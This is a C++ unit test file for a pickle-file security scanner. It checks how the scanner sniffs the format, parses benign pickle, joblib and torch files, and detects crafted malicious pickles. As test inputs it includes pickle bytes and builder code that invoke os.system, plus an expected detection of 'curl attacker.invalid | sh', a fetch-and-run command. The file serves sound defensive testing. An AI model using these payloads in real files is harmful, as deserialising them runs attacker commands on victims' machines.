// Sniffing, and real files written by CPython's pickle, joblib 1.2 and torch 1.13 (generated
// by corpus/make_corpus.py, which also crafts the hostile seeds).
#include <gtest/gtest.h>

#include "analyzers/pickle/sniff.h"
#include "analyzers/pickle/tests/pickle_builder.h"
#include "support/test_paths.h"

namespace mg::pickle::test {
namespace {

std::string Corpus(const std::string& name) {
  return mg::test::ReadFile(mg::test::SourceDir() / "src/analyzers/pickle/corpus" / name);
}

int SniffText(std::string_view text) { return SniffPickle(ByteView(text)); }

TEST(PickleSniffTest, ProtocolTwoToFiveIsNearCertain) {
  EXPECT_EQ(SniffText(std::string_view("\x80\x04\x95\x05\0\0\0\0\0\0\0N.", 13)), 95);
  EXPECT_GE(SniffText(std::string_view("\x80\x02", 2)), 90);  // truncated: still analysed
}

TEST(PickleSniffTest, ProtocolZeroAndOneAreValidatedWithLowerConfidence) {
  EXPECT_EQ(SniffText("I1\n."), 85);
  EXPECT_EQ(SniffText("(lp0\nI1\naI2\na."), 85);
  EXPECT_EQ(SniffText(std::string_view("]q\x00(K\x01K\x02"
                                       "e.",
                                       10)),
            85);
  EXPECT_EQ(SniffText("cos\nsystem\n(S'id'\ntR."), 85);
}

TEST(PickleSniffTest, AProtocolZeroPickleOpeningWithAHugeStringIsStillAPickle) {
  const std::string bytes = "V" + std::string(200000, 'a') + "\np0\n0cos\nsystem\n(S'id'\ntR.";
  EXPECT_GE(SniffText(bytes), 60);
  Target target;
  target.path = "big.pkl";
  Limits limits;
  ScanContext ctx(target, limits);
  EXPECT_EQ(AnalyzeBuffer(ctx, ByteView(std::string_view(bytes))), "pickle");
  bool found = false;
  for (const auto& f : target.findings) found = found || f.evidence == "os.system('id')";
  EXPECT_TRUE(found);
}

TEST(PickleSniffTest, ATruncatedOrCorruptedProtocolZeroCallIsStillAPickle) {
  EXPECT_EQ(SniffText("cos\nsystem\n(S'id'\ntR"), 75);      // no STOP
  EXPECT_EQ(SniffText("cos\nsystem\n(S'id'\ntR\xff"), 75);  // garbage after the call
  EXPECT_EQ(SniffText("cos\nsystem\n"), 70);
  const Scan scan = Analyze("cos\nsystem\n(S'id'\ntR\xff");
  EXPECT_NE(CallFinding(scan, "os.system('id')"), nullptr);
  EXPECT_NE(scan.First("PICKLE-MALFORMED"), nullptr);
}

TEST(PickleSniffTest, TextIsNotAPickle) {
  EXPECT_EQ(SniffText("cat\ndog\n(Sxx\n"), 0);
  EXPECT_EQ(SniffText("hello world\n"), 0);
  EXPECT_EQ(SniffText("{\"a\": [1, 2, 3]}\n"), 0);
  EXPECT_EQ(SniffText("Lorem ipsum dolor sit amet.\n"), 0);
  EXPECT_EQ(SniffText("(a, b) = c\n"), 0);
  EXPECT_EQ(SniffText("import os\nos.system('id')\n"), 0);
  EXPECT_EQ(SniffText(""), 0);
  EXPECT_EQ(SniffText("N"), 0);
}

TEST(PickleFilesTest, CPythonPicklesOfEveryProtocolParseCompletely) {
  for (int proto = 0; proto <= 5; ++proto) {
    const std::string bytes = Corpus("benign_proto" + std::to_string(proto) + ".pkl");
    EXPECT_GE(SniffPickle(ByteView(std::string_view(bytes))), 60) << proto;
    const Scan scan = Analyze(bytes);
    EXPECT_TRUE(scan.complete()) << proto;
    for (const auto& f : scan.target.findings) {
      // Only the builtins protocol < 4 needs for bytes, sets and bytearrays are called.
      EXPECT_TRUE(f.rule == "PICKLE-UNKNOWN-CALL" || f.rule == "PICKLE-DANGEROUS-CALL" ||
                  f.rule == "PICKLE-UNKNOWN-GLOBAL")
          << proto << " " << f.rule << " " << f.message;
      EXPECT_NE(f.rule, "PICKLE-MALFORMED");
    }
  }
  const Scan two = Analyze(Corpus("benign_two_pickles.pkl"));
  EXPECT_TRUE(two.target.findings.empty());
}

TEST(PickleFilesTest, JoblibRawArrayDataIsSteppedOver) {
  const Scan scan = Analyze(Corpus("joblib_arrays.pkl"));
  EXPECT_TRUE(scan.complete());
  EXPECT_EQ(scan.First("PICKLE-MALFORMED"), nullptr);
  EXPECT_EQ(scan.First("PICKLE-TRAILING-DATA"), nullptr);
  const auto arrays = scan.Find("PICKLE-JOBLIB-ARRAY");
  ASSERT_EQ(arrays.size(), 2u);  // raw arrays, and the object array's own pickle
  EXPECT_EQ(arrays[0]->severity, Severity::kInfo);
  EXPECT_NE(arrays[0]->message.find("seen 7 times"), std::string::npos);
  // The object array is a pickle inside the stream, analysed as such (its globals are judged by
  // the lists; JoblibObjectArrayPickleInsideTheStreamIsAnalysed checks a hostile one).
  EXPECT_NE(arrays[1]->message.find("object arrays"), std::string::npos);
}

TEST(PickleFilesTest, JoblibSklearnModel) {
  const Scan scan = Analyze(Corpus("joblib_sklearn_linear.pkl"));
  EXPECT_TRUE(scan.complete());
  EXPECT_NE(scan.First("PICKLE-JOBLIB-ARRAY"), nullptr);
  EXPECT_EQ(scan.First("PICKLE-TRAILING-DATA"), nullptr);
}

TEST(PickleFilesTest, JoblibArrayBytesThatLookLikeOpcodesAreNotExecuted) {
  const std::string raw = "cos\nsystem\n";  // 11 bytes of uint8 array data
  PickleBuilder p;
  p.Proto(4).Global("joblib.numpy_pickle", "NumpyArrayWrapper").Op(')').Op(0x81);
  p.Op('}').Mark();
  p.ShortUnicode("shape").BinInt1(static_cast<std::uint8_t>(raw.size())).Tuple1();
  p.ShortUnicode("dtype").Global("numpy", "dtype").ShortUnicode("u1").Op(0x89).Op(0x88);
  p.Op(0x87).Reduce();
  p.ShortUnicode("numpy_array_alignment_bytes").BinInt1(16).Op('u').Op('b');
  p.Raw(std::string("\x03\xff\xff\xff", 4)).Raw(raw);  // padding length 3, padding, data
  p.Pop().Call1("mypkg", "after", "x").Stop();
  const Scan scan = Analyze(p.bytes());
  EXPECT_TRUE(scan.complete());
  EXPECT_NE(CallFinding(scan, "mypkg.after('x')"), nullptr);
  for (const auto& f : scan.target.findings)
    EXPECT_EQ(f.evidence.find("os.system"), std::string::npos);

  // Cut inside the array data: malformed, never read past the end.
  const std::string cut = p.bytes().substr(0, p.bytes().size() - 25);
  const Scan cut_scan = Analyze(cut);
  const Finding* malformed = cut_scan.First("PICKLE-MALFORMED");
  ASSERT_NE(malformed, nullptr);
  EXPECT_NE(malformed->message.find("joblib"), std::string::npos);
}

TEST(PickleFilesTest, JoblibObjectArrayPickleInsideTheStreamIsAnalysed) {
  PickleBuilder p;
  p.Proto(4).Global("joblib.numpy_pickle", "NumpyArrayWrapper").Op(')').Op(0x81);
  p.Op('}').Mark().ShortUnicode("shape").BinInt1(1).Tuple1();
  p.ShortUnicode("dtype").Global("numpy", "dtype").ShortUnicode("O8").Op(0x89).Op(0x88);
  p.Op(0x87).Reduce().Op('u').Op('b');
  const std::size_t inner_at = p.size();
  p.Proto(2).Call1("os", "system", "id").Stop();  // what joblib reads with pickle.load
  p.Pop().None().Stop();
  const Scan scan = Analyze(p.bytes());
  const Finding* call = CallFinding(scan, "os.system('id')");
  ASSERT_NE(call, nullptr);
  EXPECT_EQ(call->location.offset, inner_at + 2 + 11 + 4 + 1);
  EXPECT_TRUE(scan.complete());
  EXPECT_EQ(scan.First("PICKLE-TRAILING-DATA"), nullptr);
}

TEST(PickleFilesTest, TorchLegacyFormatStorageIsInfo) {
  const Scan scan = Analyze(Corpus("torch_legacy.pt"));
  EXPECT_TRUE(scan.complete());
  const Finding* trailing = scan.First("PICKLE-TRAILING-DATA");
  ASSERT_NE(trailing, nullptr);
  EXPECT_EQ(trailing->severity, Severity::kInfo);
  EXPECT_NE(scan.First("PICKLE-PERSISTENT-ID"), nullptr);
}

TEST(PickleFilesTest, CraftedSeedsAreDetected) {
  EXPECT_NE(CallFinding(Analyze(Corpus("evil_os_system_p0.pkl")),
                        "os.system('curl attacker.invalid | sh')"),
            nullptr);
  EXPECT_NE(CallFinding(Analyze(Corpus("evil_memo_stack_global_p4.pkl")), "os.system('id')"),
            nullptr);
  EXPECT_NE(Analyze(Corpus("evil_dynamic_stack_global_p4.pkl")).First("PICKLE-DYNAMIC-GLOBAL"),
            nullptr);
  const Scan junk = Analyze(Corpus("junk_between_pickles.pkl"));
  EXPECT_NE(CallFinding(junk, "os.system('id')"), nullptr);
  EXPECT_NE(junk.First("PICKLE-TRAILING-DATA"), nullptr);
  const Scan nested = Analyze(Corpus("evil_nested_b64_zlib_p2.pkl"));
  const Finding* inner = CallFinding(nested, "os.system('id')");
  ASSERT_NE(inner, nullptr);
  EXPECT_EQ(inner->location.member.size(), 1u);
}

}  // namespace
}  // namespace mg::pickle::test
